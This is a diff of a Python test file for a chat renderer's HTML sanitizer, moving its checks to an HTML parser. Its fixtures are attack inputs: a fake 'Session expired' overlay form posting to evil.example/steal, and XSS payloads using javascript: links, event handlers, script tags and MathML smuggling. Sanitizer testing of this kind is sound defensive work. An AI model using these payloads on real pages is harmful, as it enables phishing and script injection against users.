@@ -2,11 +2,11 @@
 
 from __future__ import annotations
 
-import re
+from html.parser import HTMLParser
 
 import pytest
 
-from arena.render import markdown_html, plain_html
+from arena.render import clean, markdown_html, plain_html
 
 OVERLAY = ('<div style="position:fixed;inset:0;z-index:9999;background:white">'
            '<form action="https://evil.example/steal" method="post"><h2>Session expired</h2>'
@@ -15,14 +15,38 @@ PNG = ("data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADU
        "AAAABJRU5ErkJggg==")
 
 
+class _Elements(HTMLParser):
+    def __init__(self):
+        super().__init__()
+        self.found: list[tuple[str, dict]] = []
+
+    def handle_starttag(self, tag, attrs):
+        self.found.append((tag, dict(attrs)))
+
+
+def _elements(html: str) -> list[tuple[str, dict]]:
+    parser = _Elements()
+    parser.feed(html)
+    return parser.found
+
+
 def _tags(html: str) -> set[str]:
-    return {t.lower() for t in re.findall(r"<([a-zA-Z][\w-]*)", html)}
+    return {tag for tag, _ in _elements(html)}
 
 
-def test_an_overlay_form_loses_its_form_inputs_buttons_and_style():
-    html = markdown_html(OVERLAY)
+def _attributes(html: str) -> dict[str, list[str]]:
+    seen: dict[str, list[str]] = {}
+    for _, attrs in _elements(html):
+        for name, value in attrs.items():
+            seen.setdefault(name, []).append(value or "")
+    return seen
+
+
+@pytest.mark.parametrize("render", [markdown_html, clean])
+def test_an_overlay_form_loses_its_form_inputs_buttons_and_style(render):
+    html = render(OVERLAY)
     assert not _tags(html) & {"form", "input", "button"}
-    assert "style=" not in html and "position" not in html and "evil.example" not in html
+    assert not {"style", "action", "type", "name"} & set(_attributes(html))
     assert "Session expired" in html  # the words stay, harmless
 
 
@@ -43,15 +67,18 @@ def test_an_overlay_form_loses_its_form_inputs_buttons_and_style():
     '<body background="https://evil.example/bg.png"><table background="https://evil.example/t.png"></table>',
     '<input type="image" src="https://evil.example/i.png">',
 ])
-def test_no_external_resource_survives(hostile):
-    html = markdown_html(hostile)
-    loads = re.findall(r'\s(?:src|srcset|poster|background|data|action|formaction)="([^"]*)"', html)
+@pytest.mark.parametrize("render", [markdown_html, clean])
+def test_no_external_resource_survives(hostile, render):
+    html = render(hostile)
+    attributes = _attributes(html)
+    loads = [v for name in ("src", "srcset", "poster", "background", "data", "action", "href") for v in
+             attributes.get(name, []) if name != "href"]
     assert all(value.startswith("data:image/") for value in loads), html
-    assert "url(" not in html and "style" not in html
+    assert "style" not in attributes and "<style" not in html
     assert not _tags(html) & {"img", "video", "audio", "source", "picture", "svg", "image", "iframe", "object",
                               "embed", "link", "meta", "base", "style", "input", "body"} - {"img"}
-    for img in re.findall(r"<img[^>]*>", html):
-        assert 'src="data:image/' in img
+    for tag, attrs in _elements(html):
+        assert tag != "img" or attrs.get("src", "").startswith("data:image/")
 
 
 def test_a_remote_picture_becomes_a_link_that_says_where_it_goes():
@@ -66,17 +93,24 @@ def test_a_data_url_picture_is_kept():
     assert f'<img src="{PNG}"' in html
 
 
-def test_event_handlers_and_script_urls_are_dropped():
-    html = markdown_html('<a href="javascript:alert(1)" onclick="alert(2)">x</a> [y](javascript:alert(3)) '
+@pytest.mark.parametrize("render", [markdown_html, clean])
+def test_event_handlers_and_script_urls_are_dropped(render):
+    html = render('<a href="javascript:alert(1)" onclick="alert(2)">x</a> [y](javascript:alert(3)) '
                          '<a href="vbscript:msgbox">v</a> <a href="data:text/html,<script>alert(4)</script>">d</a>'
                          '<b onmouseover="alert(5)">b</b><script>alert(6)</script>')
-    assert "javascript:" not in html.split("[y]")[0] and "onclick" not in html and "onmouseover" not in html
-    assert 'href="vbscript' not in html and 'href="data:' not in html and "<script" not in html
-    assert "alert(6)" not in html
+    hrefs = _attributes(html).get("href", [])
+    assert all(href.startswith("https:") for href in hrefs)
+    assert "<script" not in html and not [name for name in _attributes(html) if name.startswith("on")]
+
+
+def test_raw_html_in_an_answer_is_shown_as_text():
+    html = markdown_html('<b onmouseover="alert(1)">bold</b> and <script>alert(2)</script>')
+    assert '&lt;b onmouseover="alert(1)"&gt;bold&lt;/b&gt;' in html and "<script" not in html
+    assert _tags(html) == {"p"}
 
 
 def test_links_open_in_a_new_tab_without_opener():
-    html = markdown_html('[docs](https://example.org/docs) <a href="https://x.example" target="_top">t</a>')
+    html = markdown_html("[docs](https://example.org/docs)") + clean('<a href="https://x.example" target="_top">t</a>')
     assert html.count('target="_blank"') == 2 and html.count('rel="noopener noreferrer"') == 2
     assert "_top" not in html
 
@@ -103,7 +137,7 @@ def test_broken_latex_shows_its_source():
 
 
 def test_mathml_cannot_smuggle_html():
-    html = markdown_html('<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml>'
+    html = clean('<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml>'
                          '<mi href="javascript:alert(2)" style="position:fixed">x</mi></math>')
     assert "onerror" not in html and "href" not in html and "style" not in html and "annotation" not in html
 
